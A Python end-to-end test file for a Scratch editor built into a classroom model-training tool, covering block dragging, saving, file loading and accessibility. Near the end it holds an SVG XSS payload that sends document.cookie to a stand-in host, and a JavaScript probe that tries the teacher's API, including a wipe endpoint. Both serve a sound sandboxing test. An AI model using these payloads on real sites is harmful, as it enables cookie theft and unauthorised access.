"""Scratch from the box: blocks that know the class's model, programs that stay, and what cannot."""

import io
import json
import shutil
import urllib.request
import uuid
import zipfile
from collections.abc import Callable
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from playwright.sync_api import Browser
from playwright.sync_api import expect
from playwright.sync_api import Page
from playwright.sync_api import Playwright
from playwright.sync_api import Request

from tests.e2e.conftest import ARGUMENTS
from tests.e2e.conftest import LAPTOP
from tests.e2e.conftest import PASSWORD
from tests.e2e.conftest import PHONE
from tests.e2e.conftest import RealBox
from webui.scratch.built import built

pytestmark = pytest.mark.skipif(built() is None, reason="the Scratch editor is not built here")
DRAWING = ("--use-gl=angle", "--use-angle=swiftshader", "--enable-unsafe-swiftshader")
"""A graphics card in software, for WebGL."""
READY = 60_000
AXE = Path(__file__).parents[2] / "webui" / "client" / "node_modules" / "axe-core" / "axe.min.js"
NAME = 'Weather <b> & "q"'
FIND_VM = """() => {
  const found = [document.getElementById("editor")._reactRootContainer._internalRoot.current];
  while (found.length > 0) {
    const fiber = found.pop();
    if (fiber.memoizedProps?.vm?.runtime) {
      window.vm = fiber.memoizedProps.vm;
      return;
    }
    found.push(...[fiber.sibling, fiber.child].filter(Boolean));
  }
}"""


class Class:
    """A class with a trained project."""

    def __init__(self, box: RealBox) -> None:
        self.box = box
        self.teacher = box.claim()
        wanted = {"name": NAME, "type": "text", "crowd_sourced": True, "labels": ["Sun", "Rain"]}
        self.project = self.teacher.call("POST", "/projects", wanted)["id"]
        code = self.teacher.call("GET", "/class")["class_code"]
        joined = box.client().call("POST", "/join", {"class_code": code, "name": "Ada"})
        self.ada = box.client(joined["token"])
        for number in range(6):
            for label, text in (("Sun", "bright warm day"), ("Rain", "wet grey drops")):
                new = {"id": str(uuid.uuid4()), "label": label, "data": f"{text} {number}"}
                self.ada.call("POST", f"/projects/{self.project}/examples", new)
        self.train()

    def train(self) -> None:
        path = f"/projects/{self.project}"
        job = self.teacher.call("POST", f"{path}/train")["job"]
        while self.teacher.call("GET", f"{path}/jobs/{job}")["state"] in {"queued", "running"}:
            pass

    def url(self, client: Any, **body: Any) -> str:
        found = client.call("POST", f"/projects/{self.project}/scratch", body)["url"]
        return str(found).replace("127.0.0.1", "localhost")

    def programs(self) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = self.ada.call("GET", f"/projects/{self.project}/programs")[
            "programs"
        ]
        return found


@pytest.fixture(scope="module")
def klass(box: RealBox) -> Class:
    return Class(box)


@pytest.fixture(scope="module")
def painter(playwright: Playwright) -> Iterator[Browser]:
    """A browser that has WebGL."""
    path = shutil.which("chromium") or shutil.which("google-chrome")
    if path is None:
        pytest.skip("there is no Chromium on this machine")
    started = playwright.chromium.launch(
        executable_path=path,
        args=[*(each for each in ARGUMENTS if each != "--disable-gpu"), *DRAWING],
    )
    yield started
    started.close()


@pytest.fixture
def show(painter: Browser, klass: Class) -> Iterator[Callable[..., Page]]:
    """`show(url)`: the editor on a device of its own, ready; nothing but the box may be asked."""
    contexts = []
    strangers: list[str] = []

    def watch(request: Request) -> None:
        address = request.url.removeprefix("blob:")
        if address.startswith("http") and not address.startswith("http://localhost:"):
            strangers.append(request.url)

    def open_(url: str, size: Any = LAPTOP) -> Page:
        contexts.append(painter.new_context(viewport=size, locale="en-GB"))
        page = contexts[-1].new_page()
        page.on("request", watch)
        page.goto(url)
        page.wait_for_selector("body[data-ready]", timeout=READY)
        page.evaluate(FIND_VM)
        return page

    yield open_
    for context in contexts:
        context.close()
    assert strangers == []


def asked(page: Page, opcode: str, **args: str) -> Any:
    """Run one of the model's blocks as a program does."""
    code = """([end, args]) => {
      const prims = vm.runtime._primitives;
      const name = Object.keys(prims).find((each) => /^crowdbox/.test(each) && each.endsWith(end));
      return prims[name](args, {target: vm.editingTarget, thread: {peekStack: () => "b"}});
    }"""
    return page.evaluate(code, [f"_{opcode}", args])


def palette(page: Page, opcode: str) -> Any:
    return page.locator(f'.blocklyFlyout .blocklyDraggable[data-id$="{opcode}"]').first


def open_category(page: Page, name: str) -> None:
    page.locator(".scratchCategoryMenuItem", has_text=name).first.click()
    page.wait_for_timeout(700)  # the palette scrolls there


def at_rest(block: Any) -> Any:
    """Return where a block is once the palette does not scroll any more."""
    before = None
    while before != (now := block.bounding_box()):
        before = now
        block.page.wait_for_timeout(200)
    return now


def drag(page: Page, category: str, opcode: str, x: float, y: float) -> None:
    """Drop a block of the palette so that its upper left corner is at x, y."""
    there = "(end) => Object.values(vm.editingTarget.blocks._blocks).some("
    there += "({opcode, shadow}) => !shadow && opcode.endsWith(end))"
    for _ in range(5):
        open_category(page, category)
        box = at_rest(palette(page, opcode))
        within = (12, box["height"] * 0.6)
        page.mouse.move(box["x"] + within[0], box["y"] + within[1])
        page.mouse.down()
        page.wait_for_timeout(150)  # the editor waits to see whether this is a click
        page.mouse.move(box["x"] + 60, box["y"] + 40, steps=5)
        page.mouse.move(x + within[0], y + within[1], steps=10)
        page.wait_for_timeout(150)
        page.mouse.up()
        page.wait_for_timeout(300)
        if page.evaluate(there, opcode):
            return
    raise AssertionError(f"{opcode} could not be dragged")


def sb3(blocks: dict[str, Any], svg: str = "", extensions: tuple[str, ...] = ()) -> bytes:
    """Return a program that was not written with this editor."""
    mark = "0123456789abcdef0123456789abcdef"
    drawing = svg or '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'
    costume = {
        "name": "c", "assetId": mark, "md5ext": f"{mark}.svg", "dataFormat": "svg",
        "rotationCenterX": 4, "rotationCenterY": 4,
    }  # fmt: skip
    common = {
        "variables": {}, "lists": {"l": ["list", ["one", "two"]]}, "broadcasts": {},
        "comments": {}, "currentCostume": 0, "costumes": [costume], "sounds": [], "volume": 100,
    }  # fmt: skip
    stage = {"isStage": True, "name": "Stage", "blocks": {}, "layerOrder": 0, "tempo": 60,
             "videoTransparency": 50, "videoState": "on", "textToSpeechLanguage": None}  # fmt: skip
    sprite = {"isStage": False, "name": "Stranger", "blocks": blocks, "layerOrder": 1, "x": 0,
              "y": 0, "size": 100, "direction": 90, "draggable": False, "visible": True,
              "rotationStyle": "all around"}  # fmt: skip
    project = {
        "targets": [common | stage, common | sprite], "monitors": [],
        "extensions": list(extensions), "meta": {"semver": "3.0.0", "vm": "0.2.0", "agent": ""},
    }  # fmt: skip
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("project.json", json.dumps(project))
        archive.writestr(f"{mark}.svg", drawing)
    return packed.getvalue()


def stack(*opcodes: str, **inputs: dict[str, Any]) -> dict[str, Any]:
    """Return the blocks of one stack."""
    names = [f"b{place}" for place in range(len(opcodes))]
    return {
        name: {
            "opcode": opcode, "next": names[place + 1] if place + 1 < len(names) else None,
            "parent": names[place - 1] if place else None, "inputs": inputs.get(opcode, {}),
            "fields": {}, "shadow": False, "topLevel": place == 0, "x": 30, "y": 30,
        }
        for place, (name, opcode) in enumerate(zip(names, opcodes, strict=True))
    }  # fmt: skip


def from_computer(page: Page, body: bytes) -> None:
    page.get_by_text("File", exact=True).click()
    with page.expect_file_chooser() as chooser:
        page.get_by_text("Load from your computer").click()
    page.once("dialog", lambda dialog: dialog.accept())
    file = {"name": "stranger.sb3", "mimeType": "application/octet-stream", "buffer": body}
    chooser.value.set_files([file])  # type: ignore[list-item]


def test_a_student_builds_a_program_that_says_what_the_model_says(
    show: Callable[..., Page], klass: Class, picture: Callable[..., None]
) -> None:
    page = show(klass.url(klass.ada))
    workspace = page.locator(".blocklySvg").first.bounding_box()
    assert workspace is not None
    x, y = workspace["x"] + 330, workspace["y"] + 60
    drag(page, "Events", "event_whenflagclicked", x, y)
    hat = page.locator(".blocklyBlockCanvas .blocklyDraggable").first.bounding_box()
    assert hat is not None
    drag(page, "Looks", "looks_say", hat["x"], hat["y"] + hat["height"] - 4)
    slot = page.locator(".blocklyBlockCanvas .blocklyEditableText").first.bounding_box()
    assert slot is not None
    drag(page, "Weather", "_label", slot["x"] - 8, slot["y"] - 8)
    stored = page.evaluate(
        """() => Object.values(vm.editingTarget.blocks._blocks)
             .map(({opcode, parent}) => [opcode, parent !== null])"""
    )
    opcodes = {opcode.rpartition("_")[2]: joined for opcode, joined in stored}
    assert opcodes["whenflagclicked"] is False
    assert opcodes["say"] is True
    assert opcodes["label"] is True
    page.locator("[class*=green-flag_green-flag]").first.click()
    said = "() => vm.editingTarget.getCustomState('Scratch.looks')?.text"
    page.wait_for_function(f"(({said})() ?? '') !== ''")
    assert page.evaluate(said) in {"Sun", "Rain"}
    picture(page, "scratch-program")


def test_the_blocks_say_what_the_model_says_and_hear_of_the_next_one(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    assert asked(page, "label", TEXT="bright warm day") == "Sun"
    assert asked(page, "label", TEXT="wet grey drops") == "Rain"
    assert asked(page, "confidence", TEXT="wet grey drops") > 50
    before = asked(page, "version")
    klass.train()
    page.wait_for_function(
        """(before) => Object.entries(vm.runtime._primitives).some(([name, block]) =>
             /^crowdbox.*_version$/.test(name) && block({}, {}) === before + 1)""",
        arg=before,
    )


def test_a_program_is_saved_and_opens_on_another_device(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    page.get_by_role("textbox", name="Name of the program").fill("Forecast")
    page.get_by_role("button", name="Save on the box").click()
    expect(page.get_by_role("status")).to_contain_text("Saved")
    page.wait_for_timeout(1_000)
    (found,) = [one for one in klass.programs() if one["name"] == "Forecast"]
    assert found["thumbnail"]
    other = show(klass.url(klass.ada))
    other.get_by_role("button", name="My programs").click()
    other.get_by_role("button", name="Open “Forecast”").first.click()
    expect(other.get_by_role("textbox", name="Name of the program")).to_have_value("Forecast")


@pytest.mark.parametrize("size", [LAPTOP, PHONE], ids=["laptop", "phone"])
def test_our_part_of_the_page_is_for_everybody(
    show: Callable[..., Page], klass: Class, size: dict[str, int]
) -> None:
    page = show(klass.url(klass.ada), size)
    page.evaluate(AXE.read_text(encoding="utf-8"))
    page.get_by_role("button", name="My programs").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    code = """async (place) => (await axe.run(place)).violations
      .map(({id, nodes}) => `${id}: ${nodes[0].html.slice(0, 150)}`)"""
    assert page.evaluate(code, "dialog") == []
    page.keyboard.press("Escape")
    assert page.evaluate(code, "#bar") == []
    expect(page.get_by_role("button", name="My programs")).to_be_focused()


def test_a_starter_opens_and_speaks_of_this_projects_labels(
    show: Callable[..., Page], klass: Class, picture: Callable[..., None]
) -> None:
    page = show(klass.url(klass.ada) + "/starter/sorting-hat", {"width": 1100, "height": 640})
    opcodes = page.evaluate(
        "() => vm.runtime.targets.flatMap((t) => Object.values(t.blocks._blocks))"
        ".map(({opcode}) => opcode)"
    )
    assert any("_name_" in opcode for opcode in opcodes)
    picture(page, "scratch-starter")


def test_the_editor_speaks_french_and_english_again_without_a_reload(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    for language, words in (("fr", "Enregistrer sur la boîte"), ("en", "Save on the box")):
        page.get_by_text("Settings" if language == "fr" else "Paramètres").first.click()
        page.get_by_text("Language" if language == "fr" else "Langue").first.click()
        name = "Français" if language == "fr" else "English"
        page.get_by_text(name, exact=True).first.dispatch_event("click")
        expect(page.get_by_role("button", name=words)).to_be_visible()


def test_a_program_with_all_of_stock_scratch_opens(show: Callable[..., Page], klass: Class) -> None:
    page = show(klass.url(klass.ada))
    body = sb3(
        stack(
            "event_whenflagclicked", "pen_clear", "control_create_clone_of", "data_deletealloflist",
            "music_midiPlayDrumForBeats", "sound_stopallsounds",
        ),
        extensions=("pen", "music"),
    )  # fmt: skip
    from_computer(page, body)
    page.wait_for_function("() => vm.runtime.targets.some((t) => t.getName() === 'Stranger')")
    count = "() => Object.keys(vm.editingTarget.blocks._blocks).length"
    assert page.evaluate(count) == 6
    expect(page.locator("dialog")).to_have_count(0)


def test_blocks_that_the_box_does_not_know_are_left_out_and_named(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    body = sb3(
        stack("event_whenflagclicked", "text2speech_speakAndWaitBlock", "motion_movesteps"),
        extensions=("text2speech", "odd"),
    )
    from_computer(page, body)
    expect(page.get_by_role("dialog")).to_contain_text("text2speech speakAndWaitBlock")
    page.get_by_role("button", name="OK").click()
    page.wait_for_function("() => vm.runtime.targets.some((t) => t.getName() === 'Stranger')")
    opcodes = page.evaluate(
        "() => Object.values(vm.editingTarget.blocks._blocks).map(({opcode}) => opcode)"
    )
    assert opcodes == ["event_whenflagclicked", "motion_movesteps"]


def test_a_program_of_another_project_asks_first_and_empties_nothing(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    body = sb3(stack("event_whenflagclicked", "crowdboxffff_train"), extensions=("crowdboxffff",))
    from_computer(page, body)
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("another model")
    link = page.get_by_role("link", name="Open that project")
    expect(link).to_have_attribute("href", f"{klass.box.url}/projects/ffff")
    page.get_by_role("button", name="Do not open it").click()
    assert page.evaluate("() => vm.runtime.targets.length") == 2
    from_computer(page, body)
    page.get_by_role("button", name="Change it to this project").click()
    page.wait_for_function("() => vm.runtime.targets.some((t) => t.getName() === 'Stranger')")
    opcodes = page.evaluate(
        "() => Object.values(vm.editingTarget.blocks._blocks).map(({opcode}) => opcode)"
    )
    assert opcodes[1].endswith("_train")
    assert "ffff_" not in opcodes[1]


def test_a_file_that_is_broken_leaves_the_editor_as_it_was(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.url(klass.ada))
    page.on("dialog", lambda dialog: dialog.accept())
    from_computer(page, sb3({})[:200])
    page.wait_for_timeout(1_500)
    assert page.evaluate("() => vm.runtime.targets.length") == 2


HOSTILE = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hit=1">
<script>window.hit = 1; fetch("http://192.0.2.1/" + document.cookie)</script>
<image href="http://192.0.2.1/a.png" onerror="window.hit=1"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.hit=1"/>
<iframe src="javascript:parent.hit=1"></iframe></body></foreignObject></svg>"""

ATTACK = """async ({pages, token, project}) => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = await work(); } catch (error) { tried[name] = `${error.name}`; }
  };
  const bearer = {Authorization: `Bearer ${token}`, "Content-Type": "application/json"};
  await attempt("cookie", () => document.cookie);
  await attempt("read", async () =>
    (await fetch(`${pages}/api/v1/class`, {credentials: "include"})).status);
  await attempt("blind", async () => (await fetch(`${pages}/api/v1/me`,
    {mode: "no-cors", credentials: "include"})).type);
  await attempt("write", async () => (await fetch(`${pages}/api/v1/wipe`,
    {method: "POST", mode: "no-cors", credentials: "include", body: "{}"})).type);
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket(pages.replace("http", "ws") +
      "/socket.io/?EIO=4&transport=websocket");
    socket.onmessage = () => done("told");
    socket.onerror = () => done("refused");
  }));
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = `${pages}/teacher`;
    frame.onload = () => {
      try { done(frame.contentDocument?.body?.innerText ? "seen" : "hidden"); }
      catch { done("hidden"); }
    };
    setTimeout(() => done("hidden"), 2000);
    document.body.append(frame);
  }));
  const here = (method, path, body) => fetch(`/api/v1${path}`, {method, headers: bearer, body});
  await attempt("class", async () => (await here("GET", "/class")).status);
  await attempt("train", async () => (await here("POST", "/scratch/train")).status);
  await attempt("save", async () => (await here("POST", "/scratch/programs?name=x", "x")).status);
  await attempt("add", async () => (await here("POST", "/scratch/examples",
    JSON.stringify({id: crypto.randomUUID?.() ?? "0192f7c4-7a00-7000-8000-000000000001",
      label: "Sun", data: "evil"}))).status);
  await attempt("list", async () => (await here("GET", `/projects/${project}/examples`)).status);
  return tried;
}"""


def test_a_hostile_program_that_the_teacher_opens_reaches_nothing_of_the_teachers(
    painter: Browser, klass: Class
) -> None:
    # Saved as a student's program can be: with the editor's own token, past every check of a page.
    at_door = klass.url(klass.ada)
    base, token = at_door.split("/scratch/#")
    request = urllib.request.Request(
        f"{base}/api/v1/scratch/programs?name=Evil",
        data=sb3(stack("event_whenflagclicked"), HOSTILE),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/octet-stream"},
    )
    with urllib.request.urlopen(request) as reply:
        program = json.load(reply)["id"]
    context = painter.new_context(viewport=LAPTOP)
    page = context.new_page()
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    signed_in = page.request.post(f"{klass.box.url}/api/v1/login", data={"password": PASSWORD})
    assert signed_in.ok
    assert any(cookie["name"] == "crowdbox" for cookie in context.cookies())
    url = klass.url(klass.teacher, program=program, watch=True)
    page.goto(f"{url}/program/{program}")
    page.wait_for_selector("body[data-ready]", timeout=READY)
    page.wait_for_timeout(1_000)
    assert page.evaluate("() => window.hit") is None
    # And if something in it ran nevertheless: all that a script of this origin can try.
    about = {
        "pages": klass.box.url, "token": url.rpartition("#")[2], "project": klass.project,
    }  # fmt: skip
    tried = page.evaluate(ATTACK, about)
    assert not any("192.0.2.1" in each for each in asked_for)
    context.close()
    assert tried == {
        "cookie": "", "read": "TypeError", "blind": "TypeError", "write": "TypeError",
        "socket": "refused", "frame": "hidden", "class": 404, "train": 403, "save": 403,
        "add": 403, "list": 404,
    }  # fmt: skip


def test_the_projector_runs_a_program_of_the_class(
    painter: Browser, klass: Class, show: Callable[..., Page], picture: Callable[..., None]
) -> None:
    page = show(klass.url(klass.ada) + "/starter/sorting-hat")
    page.get_by_role("button", name="Save on the box").click()
    expect(page.get_by_role("status")).to_contain_text("Saved")
    program = klass.programs()[0]["id"]
    wanted = {"screen": "program", "project": klass.project, "program": program}
    klass.teacher.call("PUT", "/projector", wanted)
    context = painter.new_context(viewport={"width": 1280, "height": 720})
    wall = context.new_page()
    wall.request.post(f"{klass.box.url}/api/v1/login", data={"password": PASSWORD})
    wall.goto(f"{klass.box.url}/projector")
    stage = wall.frame_locator("iframe")
    expect(stage.locator("body[data-ready]")).to_have_count(1, timeout=READY)
    expect(stage.locator("canvas").first).to_be_visible()
    wall.wait_for_timeout(1_500)
    with Image.open(io.BytesIO(wall.screenshot())) as shown:
        red, *_ = shown.convert("RGB").getpixel((400, 250))
    assert red < 100, "the hall of the sorting hat is dark; a stage without it is grey"
    picture(wall, "scratch-projector")
    context.close()
